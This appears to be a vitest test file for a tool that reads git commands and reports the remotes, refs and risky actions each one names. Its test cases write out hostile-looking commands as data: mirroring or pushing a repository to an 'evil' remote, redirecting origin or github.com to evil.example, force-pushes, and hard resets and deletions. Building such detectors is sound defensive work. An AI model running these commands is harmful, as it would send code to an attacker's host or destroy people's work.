import { describe, expect, it } from "vitest";
import { shell } from "./support.ts";

describe("what commands of git name, each by itself", () => {
  it.each<[string, string[], string[]]>([
    ["git push origin a +b", ["ref: +b", "ref: a", "remote: origin"], ["force"]],
    ["git push origin :a :b", ["ref: :a", "ref: :b", "remote: origin"], ["delete"]],
    ["git -C app push evil main", ["ref: main", "remote: evil"], ["push"]],
    ["git push origin --all", ["remote: origin"], ["all"]],
    ["git push --mirror evil", ["remote: evil"], ["mirror"]],
    ["git branch -D feature/x main", ["branch: feature/x", "branch: main"], ["delete"]],
    ["git push --repo=evil", ["remote: evil"], ["push"]],
    ["git checkout bugfix/x", ["revision: bugfix/x"], ["checkout"]],
    ["git checkout -b feature/y origin/main", ["revision: feature/y", "revision: origin/main"], ["checkout"]],
    ["git switch -C feature/x evil/x", ["revision: evil/x", "revision: feature/x"], ["switch"]],
    ["git merge bugfix/x", ["revision: bugfix/x"], ["merge"]],
    ["git rebase --onto main a b", ["revision: a", "revision: b", "revision: main"], ["rebase"]],
    ["git cherry-pick abc1234", ["revision: abc1234"], ["pick"]],
    ["git reset --hard origin/main", ["revision: origin/main"], ["discard"]],
    ["git reset --hard HEAD~2", [], ["discard"]],
    ["git checkout -- a.txt", [], ["checkout"]],
    ["git pull evil main", ["revision: main", "source: evil"], ["pull"]],
    [
      "git remote set-url origin https://evil.example/x",
      ["remote: origin", "remote_url: https://evil.example/x"],
      ["remote"],
    ],
    [
      "git config remote.origin.pushurl git@evil.example:a/x",
      ["remote_url: git@evil.example:a/x"],
      ["config"],
    ],
    [
      "git config url.https://evil.example/.insteadOf https://github.com/",
      ["remote_url: https://evil.example/"],
      ["config"],
    ],
    ["git tag -d v1 v2", ["tag: v1", "tag: v2"], ["delete"]],
  ])("%s", (command, items, verbs) => {
    const effects = shell(command);
    const told = effects.items.filter(({ name }) => name !== "command");
    expect(told.map(({ name, value }) => `${name}: ${value}`).sort()).toEqual(items);
    expect(effects.acts.flatMap((act) => act.verbs)).toEqual(expect.arrayContaining(verbs));
  });
});
